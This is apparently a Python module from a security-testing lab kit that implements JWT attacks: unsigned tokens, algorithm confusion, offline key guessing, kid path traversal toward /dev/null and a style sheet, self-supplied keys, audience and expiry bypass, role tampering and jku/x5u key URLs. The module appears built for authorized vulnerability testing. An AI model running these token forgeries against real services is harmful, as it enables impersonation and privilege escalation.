"""Attacks on access tokens: on the signature, on the key, and on the claims.

The attacker has an account, and so a valid token to take apart.
"""

from __future__ import annotations

from typing import Any

from labserver.kit.attacks.attack import attack
from labserver.kit.attacks.result import Finding
from labserver.kit.attacks.scene import NotTried, Scene
from labserver.kit.forgery import forge

KEY_FILES = (
    "../static/pages.css",
    "static/pages.css",
    "/static/pages.css",
    "../../static/pages.css",
    "pages.css",
)


@attack(
    family="tokens",
    title="A token without a signature",
    weakness="alg-none",
    success="Anybody can write a token in any name.",
    standard="RFC 8725, 3.1 and 3.2",
)
def alg_none(scene: Scene) -> Finding:
    """Write a token in the victim's name, say that it is not signed, and leave the signature out."""
    header, claims = scene.template()
    return Finding(*scene.present(forge.unsigned(claims, header)))


@attack(
    family="tokens",
    title="Algorithm confusion",
    weakness="alg-confusion",
    success="The public key is all it takes to sign a token in any name.",
    standard="RFC 8725, 3.1",
)
def alg_confusion(scene: Scene) -> Finding:
    """Sign with the public key as if it were a shared secret, and call that HS256.

    The server publishes its key; if it lets the token choose the algorithm, it checks an HMAC with the very
    bytes that everybody has.
    """
    header, claims = scene.template()
    answer = scene.client().get("/.well-known/jwks.json")
    keys = answer.json().get("keys", []) if answer.ok else []
    if not keys:
        raise NotTried("the server publishes no public key")
    forged = (
        forge.hmac_signed(claims, header | {"kid": jwk.get("kid")}, secret)
        for jwk in keys
        for secret in forge.public_bytes(jwk)
    )
    return Finding(*scene.present(forged))


@attack(
    family="tokens",
    title="A key that can be guessed",
    weakness="weak-key",
    success="One token is enough to find the key offline, and to sign a token in any name.",
    standard="RFC 8725, 3.5",
)
def weak_key(scene: Scene) -> Finding:
    """Guess the key offline, from one valid token and a word list, and sign with it.

    The server sees nothing of the guessing: no request is sent meanwhile.
    """
    header, claims = scene.template()
    if header.get("alg") != "HS256":
        raise NotTried(f"a signature by {header.get('alg')} has no shared secret to guess")
    before = len(scene.exchanges)
    secret, guesses = forge.crack(scene.tokens(scene.target.attacker)["access_token"], forge.words())
    guessed = f"{guesses} guesses, {len(scene.exchanges) - before} requests sent while guessing"
    if secret is None:
        return Finding(False, f"{guessed}: no word is the key")
    got_in, summary = scene.present([forge.hmac_signed(claims, header, secret)])
    return Finding(got_in, f"the key is a word, found after {guessed}; {summary}")


@attack(
    family="tokens",
    title="A key id that is a path",
    weakness="kid-path",
    success="Any file whose content is known serves as a key, to sign a token in any name.",
    standard="RFC 8725, 3.10",
)
def kid_path(scene: Scene) -> Finding:
    """Name as key a file whose content everybody can fetch: the pages' own style sheet.

    Where the file lies from the server's point of view is guessed, and so is an empty one, /dev/null.
    """
    header, claims = scene.template()
    answer = scene.client().get("/static/pages.css")
    known = {path: answer.content for path in KEY_FILES} if answer.ok else {}
    known |= {"/dev/null": b"", "../../../../../../../../dev/null": b""}
    forged = (forge.hmac_signed(claims, header | {"kid": path}, content) for path, content in known.items())
    return Finding(*scene.present(forged))


@attack(
    family="tokens",
    title="A key that the token carries",
    weakness="trust-jwk",
    success="The token vouches for itself: anybody can sign one in any name.",
    standard="RFC 8725, 3.10; RFC 7515, 4.1.3",
)
def own_key(scene: Scene) -> Finding:
    """Sign with a new key, and send its public half along in the header."""
    header, claims = scene.template()
    bare = {name: value for name, value in header.items() if name != "kid"}
    return Finding(
        *scene.present([forge.signed_by_own_key(claims, one) for one in (header, bare)]),
    )


@attack(
    family="tokens",
    title="A token for another service",
    weakness="no-audience",
    success="Every service that gets the user's tokens can act as the user here.",
    standard="RFC 8725, 3.9; RFC 9068, 4",
)
def other_audience(scene: Scene) -> Finding:
    """Present a token that the same issuer signed for another service, in several shapes.

    The control API signs it, in place of the other service's login.
    """
    header, claims = scene.template()
    shapes: list[dict[str, Any]] = [
        claims | {"aud": "another-service"},
        claims | {"aud": ""},
        claims | {"aud": []},
    ]
    shapes.append({name: value for name, value in claims.items() if name != "aud"})
    return Finding(*scene.present(scene.sign(header, shape) for shape in shapes))


@attack(
    family="tokens",
    title="A token that has ended",
    weakness="no-expiry",
    success="A stolen token is good for ever.",
    standard="RFC 7519, 4.1.4; RFC 9068, 4",
)
def expired(scene: Scene) -> Finding:
    """Present a token that ended an hour ago, and one that has no end. The control API signs them."""
    header, claims = scene.template()
    issued = int(claims["iat"])
    endless = {name: value for name, value in claims.items() if name != "exp"}
    shapes = (claims | {"iat": issued - 7200, "exp": issued - 3600}, endless)
    return Finding(*scene.present(scene.sign(header, shape) for shape in shapes))


@attack(
    family="tokens",
    title="A changed token",
    success="The signature does not protect all of the token.",
    standard="RFC 7515, 5.2",
)
def changed_byte(scene: Scene) -> Finding:
    """Change one character of the victim's good token, in nine places."""
    return Finding(*scene.present(forge.changed(scene.tokens(scene.target.victim)["access_token"])))


@attack(
    family="tokens",
    title="A token in another encoding",
    success="One token has several texts, and a denylist of texts stops only one of them.",
    standard="RFC 7515, 2; RFC 8725's successor (draft), 3.14",
)
def another_spelling(scene: Scene) -> Finding:
    """Spell the victim's good token in another way: padded, loosely written, one part too many."""
    token = scene.tokens(scene.target.victim)["access_token"]
    spellings = [text for text in forge.re_encoded(token) if text.strip() != token]
    return Finding(*scene.present(spellings))


@attack(
    family="tokens",
    title="A role written into one's own token",
    success="Every user can be an admin.",
    standard="RFC 8725, 3.1",
)
def promotion(scene: Scene) -> Finding:
    """Write `admin` into the attacker's own token, with its old signature or none."""
    own = scene.tokens(scene.target.attacker)["access_token"]
    head, _, signature = own.split(".")
    better = forge.segment(forge.fields(own, 1) | {"role": "admin"})
    client, summary = scene.client(), ""
    for token in (own, f"{head}.{better}.{signature}", f"{head}.{better}.", f"{head}.{better}"):
        answer = client.get("/token/admin", headers={"Authorization": f"Bearer {token}"})
        summary = scene.summarize(answer)
        if answer.status_code == 404:
            raise NotTried("there is no GET /token/admin")
        if answer.status_code == 200:
            return Finding(True, summary)
    return Finding(False, summary)


@attack(
    family="tokens",
    title="A token in the address",
    success="Anyone who reads a log or a history has the token.",
    standard="RFC 6750, 2.3; OWASP ASVS 5.0, 14.2.1",
)
def token_in_url(scene: Scene) -> Finding:
    """Put the victim's good token into the address, where logs and histories keep it."""
    token = scene.tokens(scene.target.victim)["access_token"]
    client, summary = scene.client(), ""
    for name in ("access_token", "token", "Authorization", "bearer_token"):
        answer = client.get("/token/me", params={name: token})
        summary = scene.summarize(answer)
        if scene.opens(answer):
            return Finding(True, f"{summary}, by ?{name}=")
    return Finding(False, summary)


@attack(
    family="tokens",
    title="A key fetched from an address in the token",
    success="The attacker says where the key is, and can sign a token in any name.",
    standard="RFC 8725, 3.10; OWASP ASVS 5.0, 9.1.3",
)
def key_by_url(scene: Scene) -> Finding:
    """Name in the header an address where the key is to be fetched (jku, x5u), or bring a certificate (x5c).

    The address is the target's, so that nothing is sent elsewhere; the secret is empty.
    """
    header, claims = scene.template()
    url = f"{scene.target.url}/.well-known/jwks.json"
    more: list[dict[str, Any]] = [{"jku": url}, {"x5u": url}, {"x5c": ["AAAA"]}, {"crit": ["exp"]}]
    return Finding(*scene.present(forge.hmac_signed(claims, header | one, b"") for one in more))
